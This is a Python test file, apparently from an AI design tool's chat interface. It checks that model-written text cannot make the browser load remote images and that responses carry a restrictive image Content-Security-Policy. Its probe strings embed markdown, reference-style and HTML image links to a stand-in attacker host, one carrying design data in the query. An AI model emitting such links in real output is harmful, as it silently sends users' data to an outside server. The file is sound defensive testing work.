"""Finding 10: model-written text cannot make the browser load a remote image, and the
app's responses carry a Content-Security-Policy that allows only its own images."""

from __future__ import annotations

from markdown_it import MarkdownIt

from ftdesign.agent.records import Review
from ftdesign.agent.ui.calibration.cards import check_card, example_card
from ftdesign.agent.ui.calibration.workshop import Check, Item
from ftdesign.agent.ui.model_text import StreamGuard, without_images
from ftdesign.agent.ui.review_view import review_markdown
from ftdesign.tools.schemas.rubric import CalibrationExample

LEAK = "![chart](https://attacker.example/p.png?q=the+design)"
REF_LEAK = "![chart][r]\n\n[r]: https://attacker.example/r.png"
HTML_LEAK = '<img src="https://attacker.example/h.png">'


def renders_remote_image(markdown: str) -> bool:
    html = MarkdownIt("commonmark").enable("table").render(markdown)
    return "<img" in html


def test_the_probes_do_render_as_images_unguarded():  # so the checks below can fail
    assert renders_remote_image(LEAK) and renders_remote_image(REF_LEAK)


def test_review_panel_text_shows_no_image():
    review = Review(verdict="CONCERNS", suggestions=[f"add a chart {LEAK}", REF_LEAK, HTML_LEAK])
    shown = without_images(review_markdown(review, "Rubric"))  # as stop_message sends it
    assert not renders_remote_image(shown)
    assert "attacker.example" in shown  # shown as text, so a reader sees the attempt


def test_judge_evidence_and_proposed_examples_show_no_image():
    example = CalibrationExample(
        type="PASS", context=f"User asks {LEAK}", response=REF_LEAK, reasoning="fine"
    )
    item = Item(example=example, check=Check(verdict="NO", evidence=f"see {LEAK} {HTML_LEAK}"))
    for card in (example_card(item, "Proposed"), check_card(item)):
        assert not renders_remote_image(card) and "<img" not in card


def test_a_streamed_answer_split_between_bang_and_bracket_shows_no_image():
    guard = StreamGuard()
    pieces = ["Here is the plan!", "[x](https://attacker.example/s.png)", " and <", "img src=x>"]
    streamed = "".join(guard.feed(piece) for piece in pieces)
    assert not renders_remote_image(streamed)


def test_app_responses_carry_the_image_policy():
    from chainlit.server import app as server
    from starlette.testclient import TestClient

    import ftdesign.agent.ui.app  # noqa: F401  (installs the headers, as `ftdesign ui` does)

    client = TestClient(server)  # no lifespan: Chainlit's startup watches files and waits
    for path in ("/", "/project/translations?language=en-US"):
        policy = client.get(path).headers.get("content-security-policy", "")
        assert "img-src 'self' data: blob:" in policy, path
